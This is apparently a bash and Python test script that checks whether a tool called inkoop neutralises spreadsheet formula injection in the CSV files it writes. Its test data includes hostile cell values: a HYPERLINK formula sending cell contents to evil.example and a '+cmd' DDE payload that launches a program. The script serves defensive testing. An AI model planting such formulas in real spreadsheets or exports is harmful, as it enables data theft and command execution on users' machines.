#!/usr/bin/env bash
# Spreadsheet formula injection (OWASP "CSV injection"): every CSV inkoop writes neutralises text
# cells that a spreadsheet would read as a formula, with OWASP's prefix (a single quote). Provider
# names starting with '=', '+', '-', '@' (schema fields are read trimmed) and x_ values starting
# with those, a tab or a carriage return (x_ columns pass through as they are) go through batch
# --excel and plain CSV and are read back by Python's csv module and by inkoop's own reader: each equals the
# input with the prefix; numbers, dates and ordinary names are untouched.
# Usage: formulas.sh INKOOP CSVDUMP PYTHON
set -euo pipefail
inkoop=$1
dump=$2
python=$3
tmp=$(mktemp -d /tmp/inkoop-formulas-XXXXXX)
trap 'rm -rf "$tmp"' EXIT
"$python" - "$tmp/in.csv" <<'PY'
import csv, sys
names = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0", "-Praktijk-", "@SUM(A1:A9)",
         "\tTab praktijk", "\rCR praktijk", "Praktijk De Linde", "=1+1"]
with open(sys.argv[1], "w", newline="", encoding="utf-8") as f:
    w = csv.writer(f)
    w.writerow(["agb", "name", "kind", "fte_regiebehandelaren", "application_date", "x_saldo", "x_note"])
    for i, n in enumerate(names):
        notes = ["-opmerking", "\tnote", "\rnote", "=cmd", "@x", "+31 6", "ok", "ok"]
        w.writerow(["%08d" % (12345670 + i), n, "vrijgevestigde", "8.5", "2023-06-01", "-5", notes[i]])
PY
for style in excel plain; do
  flag=""; [[ $style == excel ]] && flag="--excel"
  "$inkoop" batch --quiet --policy salland/ggz-2024 --input "$tmp/in.csv" --output "$tmp/$style.csv" $flag \
    --keep name,fte_regiebehandelaren,application_date
  "$dump" "$tmp/$style.csv" > "$tmp/$style.dump"
  "$python" - "$tmp/in.csv" "$tmp/$style.csv" "$tmp/$style.dump" "$style" <<'PY'
import csv, json, sys
src, out, dump, style = sys.argv[1:]
sep = ";" if style == "excel" else ","
given = list(csv.DictReader(open(src, newline="", encoding="utf-8")))
with open(out, newline="", encoding="utf-8-sig") as f:
    rows = list(csv.DictReader(f, delimiter=sep))
ours = [json.loads(l)["fields"] for l in open(dump, encoding="utf-8")]
header = ours[0]
assert header == list(rows[0].keys()), (header, list(rows[0].keys()))
assert len(rows) == len(given) == len(ours) - 1
def neutral(v):
    return "'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v
for g, r, o in zip(given, rows, ours[1:]):
    want = neutral(g["name"].strip(" \t\r\n"))  # a schema field is read trimmed
    assert r["name"] == want, (style, r["name"], want)
    assert o[header.index("name")] == want, (style, o[header.index("name")], want)
    assert r["x_note"] == neutral(g["x_note"]) == o[header.index("x_note")], (style, r["x_note"], g["x_note"])
    assert r["fte_regiebehandelaren"] == ("8,5" if style == "excel" else "8.5"), r["fte_regiebehandelaren"]
    assert r["application_date"] == "2023-06-01", r["application_date"]
    assert r["x_saldo"] == "-5", r["x_saldo"]  # a number in an x_ column stays a number
    for k, v in r.items():  # no text cell anywhere can start a formula
        assert v[:1] not in ("=", "+", "@", "\t", "\r") and (v[:1] != "-" or v == "-5"), (k, v)
print("%s: %d names read back by Python's csv and inkoop's reader, each neutralised as documented" % (style, len(rows)))
PY
done
echo "ok: no formula survives into a CSV"
